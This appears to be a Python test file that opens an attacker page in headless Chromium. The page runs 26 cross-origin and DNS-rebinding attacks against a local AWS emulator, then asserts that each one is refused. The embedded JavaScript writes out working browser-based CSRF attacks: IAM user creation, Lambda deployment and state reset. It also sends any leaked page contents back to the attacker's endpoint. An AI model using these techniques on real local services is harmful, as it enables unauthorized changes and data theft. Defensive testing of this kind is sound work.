"""A page that is open in a developer's browser does nothing to the embedded AWS: tried with a real Chromium.

Pages of two kinds: of another origin, a port of this machine; and of a name that its owner lets point to this
machine once the page is loaded (DNS rebinding), so that the embedded AWS is the page's own origin.
"""

import base64
import contextlib
import http.client
import io
import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from local.gate import Gate
from local.server import EmbeddedAws
from tests.loopback import Handler, Loopback

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium: apt install chromium")

BUCKET = "guarded"
REBOUND = "rebound.test"
SECONDS = 120
FORGED = (
    "AWS4-HMAC-SHA256 Credential=local/20260101/us-east-1/lambda/aws4_request, "
    f"SignedHeaders=host, Signature={'0' * 64}"
)
# Each attack goes to an address of its own, so that it is seen whether it arrived.
ATTACKS = """
const attacks = {
  'cors PUT': () => fetch(T + '/cors-put', {method: 'PUT'}),
  'cors PUT with a forged signature': () => fetch(T + '/cors-put-forged', {
    method: 'PUT', headers: {Authorization: FORGED, 'x-amz-date': '20260101T000000Z'}}),
  'cors POST of a function': () => fetch(T + '/2015-03-31/functions?cors-post', {
    method: 'POST', headers: {Authorization: FORGED, 'Content-Type': 'application/json'}, body: FUNCTION}),
  'cors POST': () => fetch(T + '/guarded?cors-post-plain', {method: 'POST', body: 'x'}),
  'cors GET': () => fetch(T + '/guarded/page.html?cors-get').then(r => r.text()).then(leaked),
  'cors GET with cookies': () => fetch(T + '/guarded/page.html?cors-cookies', {credentials: 'include'})
    .then(r => r.text()).then(leaked),
  'cors PUT of an object': () => fetch(T + '/guarded/cors-put.txt', {method: 'PUT', body: 'x'}),
  'no-cors GET': () => fetch(T + '/guarded/page.html?no-cors-get', {mode: 'no-cors'})
    .then(r => r.text()).then(leaked),
  'no-cors POST of an object': () => {
    const form = new FormData(); form.append('key', 'no-cors.txt'); form.append('file', new Blob(['x']));
    return fetch(T + '/guarded?no-cors-post', {method: 'POST', mode: 'no-cors', body: form}); },
  'no-cors POST of a user': () => fetch(T + '/iam_us-east-1/?no-cors-user', {method: 'POST', mode: 'no-cors',
    headers: {'Content-Type': 'application/x-www-form-urlencoded'},
    body: 'Action=CreateUser&UserName=evil&Version=2010-05-08'}),
  'no-cors POST of a reset': () => fetch(T + '/moto-api/reset?no-cors', {method: 'POST', mode: 'no-cors'}),
  'no-cors PUT': () => fetch(T + '/no-cors-put', {method: 'PUT', mode: 'no-cors'}),
  'XMLHttpRequest': () => new Promise(done => { const r = new XMLHttpRequest(); r.open('PUT', T + '/xhr-put');
    r.onloadend = done; r.send('x'); }),
  'a beacon': () => { navigator.sendBeacon(T + '/moto-api/reset?beacon', 'x'); return pause(); },
  'events': () => new Promise(done => { const e = new EventSource(T + '/guarded/page.html?events');
    e.onerror = () => { e.close(); done(); }; }),
  'an image': () => new Promise(done => { const i = new Image(); i.onerror = done;
    i.onload = () => { leaked('an image of ' + i.width); done(); }; i.src = T + '/guarded/image.svg'; }),
  'a script': () => element('script', {src: T + '/guarded/script.js'}),
  'a stylesheet': () => element('link', {rel: 'stylesheet', href: T + '/guarded/style.css'}),
  'a frame': () => element('iframe', {src: T + '/guarded/page.html?frame'}),
  'a form POST': () => form('multipart/form-data', '/guarded?form', {key: 'form.txt', file: 'x'}),
  'a form POST of a user': () => form('application/x-www-form-urlencoded', '/iam_us-east-1/?form-user',
    {Action: 'CreateUser', UserName: 'evil', Version: '2010-05-08'}),
  'a form POST of a reset': () => form('text/plain', '/moto-api/reset?form', {a: 'b'}),
  'a form GET': () => form('application/x-www-form-urlencoded', '/guarded/form-get', {acl: ''}, 'GET'),
  'a WebSocket': () => new Promise(done => { const s = new WebSocket(T.replace('http', 'ws') + '/guarded?ws');
    s.onerror = s.onclose = done; }),
  'a preload': () => element('link', {rel: 'preload', as: 'fetch', href: T + '/guarded/page.html?preload'}),
  'a navigation': () => { open(T + '/guarded/page.html?window'); return pause(); },
  'cors DELETE': () => fetch(T + '/guarded/page.html?cors-delete', {method: 'DELETE'}),
};
const leaks = [], results = {};
function leaked(text) { if (text.includes('SECRET') || text.includes('image of')) leaks.push(text); }
function pause() { return new Promise(done => setTimeout(done, 500)); }
function element(kind, attributes) { return new Promise(done => { const e = document.createElement(kind);
  e.onload = e.onerror = done; Object.assign(e, attributes); document.body.append(e); }); }
function form(enctype, path, fields, method = 'POST') { return new Promise(done => {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random();
  document.body.append(frame);
  const f = document.createElement('form');
  Object.assign(f, {action: T + path, method, enctype, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const i = document.createElement('input'); i.name = name; i.value = value; f.append(i); }
  document.body.append(f); frame.onload = () => done(); f.submit(); }); }
(async () => {
  for (const [name, attack] of Object.entries(attacks)) {
    try { results[name] = await Promise.race([attack(), new Promise(done => setTimeout(done, 5000))]); }
    catch (error) { results[name] = String(error); } }
  await new Promise(done => setTimeout(done, 500));
  await fetch('/told', {method: 'POST', body: JSON.stringify({leaks, script: window.ran || null,
    style: getComputedStyle(document.body).color, tried: Object.keys(results)})});
})();
"""
ARRIVED = {
    "/cors-put", "/cors-put-forged", "/2015-03-31/functions?cors-post", "/guarded?cors-post-plain",
    "/guarded/cors-put.txt", "/guarded/page.html?cors-get", "/guarded/page.html?cors-cookies",
    "/guarded/page.html?cors-delete",
    "/guarded/page.html?no-cors-get", "/guarded?no-cors-post", "/iam_us-east-1/?no-cors-user",
    "/moto-api/reset?no-cors", "/xhr-put", "/moto-api/reset?beacon", "/guarded/page.html?events",
    "/guarded/image.svg", "/guarded/script.js", "/guarded/style.css", "/guarded/page.html?frame",
    "/guarded?form", "/iam_us-east-1/?form-user", "/moto-api/reset?form", "/guarded/form-get?acl=",
    "/guarded?ws", "/guarded/page.html?preload", "/guarded/page.html?window",
}  # fmt: skip


@dataclass
class Seen:
    """What came to the embedded AWS, and what it let in."""

    arrived: dict[str, dict[str, str]] = field(default_factory=dict)
    statuses: set[str] = field(default_factory=set)
    reasons: list[str] = field(default_factory=list)
    let_in: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def aws() -> Iterator[EmbeddedAws]:
    with EmbeddedAws() as running:
        s3 = running.clients.s3
        s3.create_bucket(Bucket=BUCKET)
        for key, content, kind in (
            ("page.html", "<p>SECRET</p>", "text/html"),
            ("image.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>', "image/svg+xml"),
            ("script.js", "window.ran = 'SECRET'", "text/javascript"),
            ("style.css", "body { color: rgb(1, 2, 3) }", "text/css"),
        ):
            s3.put_object(Bucket=BUCKET, Key=key, Body=content.encode(), ContentType=kind, ACL="public-read")
        running.clients.get("iam").create_role(RoleName="evil", AssumeRolePolicyDocument="{}")
        yield running


@pytest.fixture
def seen(aws: EmbeddedAws, monkeypatch: pytest.MonkeyPatch) -> Seen:
    noted = Seen()
    gate, behind, own = Gate.__call__, aws._gate._application, aws.keys.owner.id

    def arrive(self: Gate, environ: Any, start_response: Any) -> Any:
        if own in environ.get("HTTP_AUTHORIZATION", ""):
            return gate(self, environ, start_response)
        headers = {name: str(value) for name, value in environ.items() if name.startswith("HTTP_")}
        noted.arrived[environ["RAW_URI"]] = headers

        def start(status: str, *rest: Any) -> Any:
            noted.statuses.add(status)
            return start_response(status, *rest)

        answer = b"".join(gate(self, environ, start))
        noted.reasons.append(answer.decode(errors="replace"))
        return [answer]

    def let_in(environ: Any, start_response: Any) -> Any:
        if own not in environ.get("HTTP_AUTHORIZATION", ""):
            noted.let_in.append(environ["RAW_URI"])
        return behind(environ, start_response)

    monkeypatch.setattr(Gate, "__call__", arrive)
    monkeypatch.setattr(aws._gate, "_application", let_in)
    return noted


class Attacker(Loopback):
    """Serves the page and hears what it found; passes on what is not its own, once its name points here."""

    def __init__(self, target: str, upstream: str) -> None:
        self.told: dict[str, Any] = {}
        self.heard = threading.Event()
        role = "arn:aws:iam::123456789012:role/evil"
        code = io.BytesIO()
        with zipfile.ZipFile(code, "w") as archive:
            archive.writestr("evil.py", "def handler(event, context): return 'it runs'")
        function = json.dumps({
            "FunctionName": "evil", "Runtime": "python3.13", "Role": role, "Handler": "evil.handler",
            "Code": {"ZipFile": base64.b64encode(code.getvalue()).decode()},
        })  # fmt: skip
        constants = f"const T = {target!r}, FORGED = {FORGED!r}, FUNCTION = {function!r};"
        page = f"<!doctype html><body><script>{constants}{ATTACKS}</script>".encode()
        attacker = self

        class Evil(Handler):
            def handle_any(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path == "/told":
                    attacker.told = json.loads(body)
                    attacker.heard.set()
                    self.reply(200, b"")
                elif self.path == "/page":
                    self.reply(200, page)
                elif self.path == "/favicon.ico":
                    self.reply(404, b"")
                else:
                    self.pass_on(body)

            do_GET = do_PUT = do_POST = do_DELETE = do_OPTIONS = do_HEAD = handle_any  # noqa: N815

            def pass_on(self, body: bytes) -> None:
                connection = http.client.HTTPConnection(upstream, timeout=30)
                with contextlib.closing(connection):
                    connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
                    for name, value in self.headers.items():
                        connection.putheader(name, value)
                    connection.endheaders(body)
                    response = connection.getresponse()
                    self.reply(response.status, response.read(), response.headers.get_content_type())

            def reply(self, status: int, content: bytes, kind: str = "text/html") -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

        super().__init__(Evil)


@pytest.fixture
def folder() -> Iterator[Path]:
    """A short one: the browser has a socket in there, and that path may have 107 bytes."""
    with tempfile.TemporaryDirectory(prefix="browser-", dir="/tmp", ignore_cleanup_errors=True) as made:
        yield Path(made)


def browse(url: str, attacker: Attacker, folder: Path, arrived: Callable[[], bool], *options: str) -> None:
    """Open a page in a browser of its own until it has told what it found, and all of it has arrived."""
    command = [
        str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-quic",
        "--disable-popup-blocking", "--no-proxy-server", "--disable-dev-shm-usage",
        f"--user-data-dir={folder / 'profile'}", "--remote-debugging-port=0", *options, url,
    ]  # fmt: skip
    environment = {"PATH": os.environ["PATH"], "HOME": str(folder), "TMPDIR": str(folder)}
    with (folder / "log").open("wb") as log:
        browser = subprocess.Popen(
            command, env=environment, stdout=log, stderr=log, stdin=subprocess.DEVNULL, start_new_session=True
        )
        try:
            deadline = time.monotonic() + SECONDS
            while not attacker.heard.wait(0.2) and browser.poll() is None and time.monotonic() < deadline:
                pass
            heard = attacker.heard.is_set()
            deadline = time.monotonic() + (20 if heard else 0)
            while not arrived() and time.monotonic() < deadline:
                time.sleep(0.05)
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()
    assert heard, (folder / "log").read_text(errors="replace")[-2000:]


def nothing_happened(aws: EmbeddedAws, attacker: Attacker, seen: Seen) -> None:
    assert seen.let_in == []
    assert seen.statuses == {"403 Forbidden"}
    assert attacker.told["leaks"] == []
    assert attacker.told["script"] is None
    assert attacker.told["style"] != "rgb(1, 2, 3)"
    clients = aws.clients
    assert [bucket["Name"] for bucket in clients.s3.list_buckets()["Buckets"]] == [BUCKET]
    keys = {item["Key"] for item in clients.s3.list_objects_v2(Bucket=BUCKET)["Contents"]}
    assert keys == {"page.html", "image.svg", "script.js", "style.css"}
    assert clients.lambda_.list_functions()["Functions"] == []
    assert clients.get("iam").list_users()["Users"] == []


@pytest.mark.attack("a page of another origin, in a browser, calls the embedded AWS in 26 ways")
def test_a_page_of_another_origin(aws: EmbeddedAws, seen: Seen, folder: Path) -> None:
    with Attacker(aws.endpoint, aws.endpoint.removeprefix("http://")) as attacker:
        page = f"http://127.0.0.1:{attacker.port}/page"
        browse(page, attacker, folder, lambda: seen.arrived.keys() >= ARRIVED)
    nothing_happened(aws, attacker, seen)
    assert ARRIVED - seen.arrived.keys() == set()
    # All of it is known for a page's by what the browser says: it would be stopped without any signature.
    assert [reason for reason in seen.reasons if "A web page sent this request" not in reason] == []
    assert [headers for headers in seen.arrived.values() if "HTTP_ORIGIN" not in headers] != []
    assert [headers for headers in seen.arrived.values() if "HTTP_SEC_FETCH_SITE" not in headers] != []


@pytest.mark.attack("a page whose name comes to point here calls the embedded AWS in 26 ways")
def test_a_page_whose_name_comes_to_point_here(aws: EmbeddedAws, seen: Seen, folder: Path) -> None:
    port = aws.endpoint.rpartition(":")[2]
    # The page's origin has the embedded AWS's port. What the browser asks of it after the page itself goes on
    # to the embedded AWS as it is, as if the name had come to point there.
    with Attacker(f"http://{REBOUND}:{port}", aws.endpoint.removeprefix("http://")) as attacker:
        mapped = f"--host-resolver-rules=MAP {REBOUND}:{port} 127.0.0.1:{attacker.port}"
        page = f"http://{REBOUND}:{port}/page"
        browse(page, attacker, folder, lambda: seen.arrived.keys() >= ARRIVED, mapped)
    nothing_happened(aws, attacker, seen)
    # The page is of the same origin: nothing is asked before, nothing is kept from it, reads have no Origin.
    assert ARRIVED - seen.arrived.keys() == set()
    reads = [headers for headers in seen.arrived.values() if "HTTP_ORIGIN" not in headers]
    assert len(reads) > 5
    stopped = ("A web page sent this request", f"The Host header says '{REBOUND}:{port}'")
    assert [reason for reason in seen.reasons if not any(words in reason for words in stopped)] == []
    assert {headers["HTTP_HOST"] for headers in seen.arrived.values()} == {f"{REBOUND}:{port}"}
